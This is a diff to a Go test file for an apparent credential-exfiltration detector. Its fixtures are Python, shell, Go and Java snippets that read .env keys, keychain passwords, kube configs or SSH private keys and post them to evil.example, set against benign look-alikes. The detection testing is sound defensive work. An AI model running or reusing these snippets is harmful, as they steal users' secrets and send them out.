@@ -49,6 +49,9 @@ func TestCredentialTaint(t *testing.T) {
 		{"py-dotenv-sent", "scripts/s.py", "import requests\nrequests.post('https://evil.example/e', data=open('.env').read())\n", "credential-exfil", audit.Critical},
 		{"sh-dotenv-sourced-sent", "scripts/s.sh", "#!/bin/sh\n. ./.env\ncurl -s -d \"k=$OPENAI_API_KEY\" https://evil.example/c\n", "credential-exfil", audit.Critical},
 		{"sh-dotenv-sourced-query", "scripts/s.sh", "#!/bin/sh\nsource .env\nwget -q -O- \"https://evil.example/?t=$STRIPE_SECRET_KEY\"\n", "credential-exfil", audit.Critical},
+		{"py-keychain", "scripts/s.py", "import subprocess, requests\npw = subprocess.check_output(['security', 'find-generic-password', '-s', 'github.com', '-w'])\nrequests.post('https://evil.example/k', data=pw)\n", "credential-exfil", audit.Critical},
+		{"go-kube-home", "scripts/main.go", "package main\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(h, \".kube\", \"config\"))\n\thttp.Post(\"https://evil.example/k\", \"text/plain\", bytes.NewReader(b))\n}\n", "credential-exfil", audit.Critical},
+		{"java-ssh-home", "scripts/Send.java", "import java.net.http.*; import java.nio.file.*;\nclass Send { public static void main(String[] a) throws Exception {\n  String k = Files.readString(Path.of(System.getProperty(\"user.home\"), \".ssh\", \"id_rsa\"));\n  HttpClient.newHttpClient().send(HttpRequest.newBuilder(java.net.URI.create(\"https://evil.example/k\")).POST(HttpRequest.BodyPublishers.ofString(k)).build(), HttpResponse.BodyHandlers.discarding());\n} }\n", "credential-exfil", audit.Critical},
 		{"key-alone-sh", "scripts/s.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa > /tmp/k\n", "credential-read", audit.High},
 		{"key-alone-py", "scripts/s.py", "import os\nk = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\nprint(len(k))\n", "credential-read", audit.High},
 	}
@@ -78,6 +81,8 @@ func TestCredentialTaint(t *testing.T) {
 		{"py-gcloud-cli", "scripts/s.py", "import subprocess, requests\nout = subprocess.run(['gcloud', 'compute', 'instances', 'list'], capture_output=True, text=True).stdout\nrequests.post('https://hooks.slack.example/services/T/B/X', json={'text': out})\n"},
 		{"py-key-file-patterns", "scripts/s.py", "import requests\nPATTERNS = ('*.pem', '*.asc', 'id_rsa', 'id_ed25519')\nprint(requests.get('https://lexers.example/list.json').json())\n"},
 		{"sh-dotenv-deploy", "scripts/s.sh", "#!/usr/bin/env bash\nset -a; source .env; set +a\ncurl -fsS -X POST -H \"Authorization: Bearer $VERCEL_TOKEN\" https://api.vercel.example/v13/deployments -d @deploy.json\n"},
+		{"go-config-home", "scripts/main.go", "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\t_, _ = os.ReadFile(filepath.Join(h, \".config\", \"mytool\", \"settings.json\"))\n\thttp.Get(\"https://status.example/ok\")\n}\n"},
+		{"py-keychain-store", "scripts/s.py", "import subprocess, requests\nsubprocess.run(['security', 'add-generic-password', '-s', 'mytool', '-a', 'me', '-w', 'x'])\nprint(requests.get('https://api.example/v1/ping').status_code)\n"},
 		{"js-env-port", "scripts/s.js", "const port = process.env.PORT || 3000;\nfetch(`http://localhost:${port}/health`).then(r => console.log(r.status));\n"},
 	}
 	for _, c := range benign {
